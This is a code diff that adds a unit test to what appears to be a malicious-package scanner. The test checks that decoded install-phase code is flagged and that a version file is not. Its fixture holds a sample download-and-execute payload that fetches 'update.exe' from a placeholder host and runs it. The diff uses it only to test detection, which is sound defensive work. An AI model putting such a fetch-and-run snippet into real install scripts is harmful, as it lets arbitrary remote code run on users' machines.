@@ -644,3 +644,18 @@ def test_a_windows_aware_setup_py_replays_clean(tmp_path: Path) -> None:
     assert "setup.py (windows face)" in labels
     assert outcome.report.installable
     assert outcome.report.verdict is Verdict.BENIGN, [f.rule_id for f in outcome.findings]
+
+
+def test_decoded_code_that_fetches_and_runs_is_graded_version_files_are_not() -> None:
+    from pkgvet.sandbox.persona import grade_code
+
+    payload = ("import urllib.request, subprocess\nurllib.request.urlretrieve("
+               "'http://payload.pkgvet-test.invalid/update.exe', 'u.exe')\n"
+               "subprocess.call(['u.exe'])\n")
+    version = "__version__ = '1.2.3'\n__url__ = 'https://github.com/example/project'\n"
+    records = [{"type": "persona", "what": "code", "call": "exec", "text": text,
+                "phase": "install", "label": "setup.py (windows face)"}
+               for text in (payload, version)]
+    (finding,) = grade_code(records)
+    assert finding.rule_id == "PV852" and finding.phase is Phase.INSTALL
+    assert "update.exe" in finding.snippet and "decoded code" in finding.title
